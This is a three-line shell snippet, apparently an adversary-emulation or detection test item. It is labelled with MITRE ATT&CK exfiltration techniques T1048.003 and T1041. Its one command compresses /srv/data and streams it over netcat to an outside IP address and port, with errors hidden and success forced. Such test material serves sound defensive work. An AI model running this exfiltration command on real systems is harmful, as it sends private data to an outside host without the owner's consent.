# title: netcat sends an archive
# technique: T1048.003 T1041
# needs: nc

tar cz /srv/data 2>/dev/null | timeout 3 nc -w1 192.88.99.7 9999; true
